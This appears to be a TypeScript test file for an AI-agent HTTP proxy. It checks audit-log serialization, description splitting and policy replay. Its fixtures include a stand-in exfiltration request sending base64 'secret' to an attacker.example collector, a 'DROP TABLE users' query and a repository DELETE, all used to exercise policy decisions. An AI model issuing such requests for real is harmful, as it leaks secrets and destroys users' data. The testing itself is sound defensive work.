// Reading an audit line once: auditLine() writes the description last, and replay splits it off
// and hands its exact text to the policy. Whatever the line, the split must agree with parsing the
// whole line, and a replay must decide exactly as if every description were serialized again.
import fs from 'node:fs';
import path from 'node:path';
import t from 'tap';
import fc from 'fast-check';
import { auditLine, evaluatedAs, splitAtDescription, type AuditRecord } from '../../state/audit-log.ts';
import { openPolicy, parseCaptureLine, replayFiles } from '../../offline/replay.ts';
import { projectRoot } from '../../engine/toolchain.ts';
import type { RequestDescription } from '../../describe/types.ts';
import { loadAdapters } from '../../describe/adapters/index.ts';
import { describeRequest } from '../../describe/describe.ts';

await loadAdapters();

function described(i: number): RequestDescription {
  const shapes: Array<[string, string, string]> = [
    ['GET', 'https://api.github.com/repos/acme/widgets/issues?state=open', ''],
    ['POST', 'https://api.github.com/repos/acme/widgets/issues', JSON.stringify({ title: 'x', description: { nested: ',"description":{}' } })],
    ['DELETE', 'https://api.github.com/repos/acme/widgets', ''],
    ['POST', 'https://api.stripe.com/v1/refunds', 'payment_intent=pi_1&amount=500'],
    ['POST', 'https://ep-cool-darkness-123456.us-east-2.aws.neon.tech/sql', JSON.stringify({ query: 'DROP TABLE users' })],
    ['GET', 'https://attacker.example/collect?d=c2VjcmV0', ''],
  ];
  const [method, url, body] = shapes[i % shapes.length]!;
  return describeRequest(
    {
      id: `req-${i}`, time: new Date(Date.parse('2026-01-05T10:00:00Z') + i * 1000), method, url, bodyTruncated: false, body: Buffer.from(body),
      headers: body ? [['Content-Type', body.startsWith('{') ? 'application/json' : 'application/x-www-form-urlencoded']] : [],
    },
    { agent: { id: ['coder', 'billing', 'ops'][i % 3]!, labels: {} } },
  );
}

function record(d: RequestDescription): AuditRecord {
  // Shaped as the proxy builds it: the description is set in the middle of the record's life.
  return {
    time: d.request.time, id: d.request.id, method: d.request.method, url: d.request.url, outcome: 'forwarded', agent: d.agent.id,
    host: d.request.host, description: d, decision: { action: 'allow', reason: 'recorded', rule: 'effect.read' }, status: 200,
  };
}

t.test('auditLine writes the description last, and the split gives back its exact text', async (t) => {
  const d = described(1);
  const line = auditLine(record(d));
  t.ok(line.endsWith(`,"description":${JSON.stringify(d)}}`));
  t.same(JSON.parse(line), JSON.parse(JSON.stringify(record(d))), 'the same record; only the member order differs');
  const split = splitAtDescription(line)!;
  t.equal(split.descriptionJson, JSON.stringify(d));
  t.same(split.record, JSON.parse(line));
  const item = parseCaptureLine(line, 'x:1');
  t.match(item, { kind: 'request', inputJson: JSON.stringify(d), recorded: { action: 'allow', rule: 'effect.read' } });
  t.equal(auditLine({ time: d.request.time, id: 'r', outcome: 'unauthenticated' }), JSON.stringify({ time: d.request.time, id: 'r', outcome: 'unauthenticated' }));
  const omitted = auditLine({ ...record(d), description: undefined, description_omitted: { bytes: 70_000, reason: 'past its share' } });
  t.match(parseCaptureLine(omitted, 'x:2'), { kind: 'skipped', reason: /description was left out \(70000 bytes: its agent was past its share of the audit log\)/ }, 'a record past its agent\'s audit share is skipped, saying why');
});

t.test('lines the split must leave to a whole parse', async (t) => {
  const d = JSON.stringify(described(0));
  const cases: Array<[string, string]> = [
    [`{"extra":{"a":1,"description":{"fake":true}},"description":${d}}`, 'first occurrence nested in an earlier member'],
    [`{"note":"x\\",\\"description\\":{}","description":${d}}`, 'occurrence spelled inside a string'],
    [`{"description":${d},"outcome":"forwarded"}`, 'description not last'],
    [`{"description":${d},"extra":{"k":1,"description":{"fake":true}}}`, 'a later member holds a nested description'],
    [`{"time":"t","description":${d}} {"x":1}`, 'two values on one line'],
  ];
  for (const [line, why] of cases) {
    const split = splitAtDescription(line);
    let whole: unknown;
    try {
      whole = JSON.parse(line);
    } catch {
      whole = undefined;
    }
    if (split) t.same({ ...split.record }, whole, `${why}: the split agrees with the whole parse`);
    else t.pass(`${why}: not split`);
    const item = parseCaptureLine(line, 'x:1');
    if (whole === undefined) t.match(item, { kind: 'skipped', reason: /not valid JSON/ }, `${why}: refused like the whole parse`);
    else {
      t.same(item?.kind === 'request' && item.input, (whole as { description: unknown }).description, `${why}: the top-level description`);
      if (item?.kind === 'request' && item.inputJson !== undefined) t.same(JSON.parse(item.inputJson), item.input, `${why}: the text is that description`);
    }
  }
  t.equal(splitAtDescription(`{,"description":${d}}`), undefined, 'no member before it: not JSON, not split');
  t.match(parseCaptureLine(`{,"description":${d}}`, 'x:1'), { kind: 'skipped', reason: /not valid JSON/ });
  t.equal(splitAtDescription(`{"a":1,"description":${d}x}`), undefined, 'garbage after the description');
  t.same(splitAtDescription(`{"description":{"old":1},"a":1,"description":{"new":2}}`)?.record.description, { new: 2 }, 'a repeated member: the last wins, as in JSON.parse and OPA');
});

t.test('property: the split always agrees with parsing the whole line', async (t) => {
  const key = fc.oneof(fc.constantFrom('description', 'time', 'decision', 'a', '__proto__'), fc.string({ maxLength: 6 }));
  // Values that love to contain the separator: strings spelling it, objects with a description.
  const value = fc.letrec<{ v: unknown }>((tie) => ({
    v: fc.oneof(
      { depthSize: 'small' },
      fc.constantFrom(',"description":', ',"description":{}', '}', '{"description":1}', 'x'),
      fc.string({ maxLength: 8 }),
      fc.integer(),
      fc.boolean(),
      fc.constant(null),
      fc.array(tie('v'), { maxLength: 3 }),
      fc.dictionary(key, tie('v'), { maxKeys: 3 }),
    ),
  })).v;
  const members = fc.array(fc.tuple(key, value), { maxLength: 5 });
  const description = fc.oneof({ arbitrary: fc.dictionary(key, value, { maxKeys: 4 }), weight: 4 }, { arbitrary: value, weight: 1 });
  let splits = 0;
  fc.assert(
    fc.property(members, description, fc.boolean(), (before, d, last) => {
      const all: Array<[string, unknown]> = last ? [...before, ['description', d]] : [['description', d], ...before];
      const line = `{${all.map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v)}`).join(',')}}`;
      const whole = JSON.parse(line) as Record<string, unknown>;
      const split = splitAtDescription(line);
      if (!split) return true;
      splits++;
      t.same({ ...split.record }, { ...whole });
      t.same(JSON.parse(split.descriptionJson), whole.description);
      return true;
    }),
    { numRuns: 1500, seed: 7 },
  );
  t.ok(splits > 300, `the property saw ${splits} lines split, not only lines left whole`);
});

t.test('replay decides a description-last log exactly as one it must serialize again', async (t) => {
  const dir = t.testdir({});
  const descriptions = Array.from({ length: 60 }, (_, i) => described(i));
  const descriptionLast = path.join(dir, 'new.jsonl');
  const descriptionInside = path.join(dir, 'old.jsonl');
  fs.writeFileSync(descriptionLast, descriptions.map((d) => auditLine(record(d))).join('\n'));
  fs.writeFileSync(descriptionInside, descriptions.map((d) => JSON.stringify(record(d))).join('\n'));
  const firstLast = fs.readFileSync(descriptionLast, 'utf8').split('\n')[0]!;
  const firstInside = fs.readFileSync(descriptionInside, 'utf8').split('\n')[0]!;
  t.ok(parseCaptureLine(firstLast, 'n')?.kind === 'request' && (parseCaptureLine(firstLast, 'n') as { inputJson?: string }).inputJson, 'the new layout carries the text');
  t.notOk((parseCaptureLine(firstInside, 'o') as { inputJson?: string }).inputJson, 'the old layout is serialized again');

  const policy = await openPolicy(path.join(projectRoot, 'rego'));
  t.teardown(() => policy.close());
  const strip = (r: Awaited<ReturnType<typeof replayFiles>>): unknown => ({
    // Timings are the machine's, not the layout's: a decision past the live budget on a loaded box is counted as slow.
    ...r, elapsedMs: 0, slow: 0, slowSamples: [], changedRows: r.changedRows.map((row) => ({ ...row, source: row.source.replace(/^\w+\.jsonl/, '') })),
  });
  const a = await replayFiles([descriptionLast], { policy, againstLog: true });
  const b = await replayFiles([descriptionInside], { policy, againstLog: true });
  t.equal(a.decided, 60);
  t.ok(a.after.allow > 0 && a.after.deny > 0 && a.after.approve > 0, `a mix of decisions: ${JSON.stringify(a.after)}`);
  t.same(strip(a), strip(b));
});

t.test('a description the proxy evaluated as text is written with that very text', async (t) => {
  const d = described(1);
  const text = JSON.stringify(d);
  evaluatedAs.set(d, text);
  const line = auditLine(record(d));
  t.equal(line, auditLine(record(JSON.parse(text) as RequestDescription)), 'the same line as serializing the description');
  t.equal(splitAtDescription(line)?.descriptionJson, text, 'the text the policy evaluated, split back off');
});
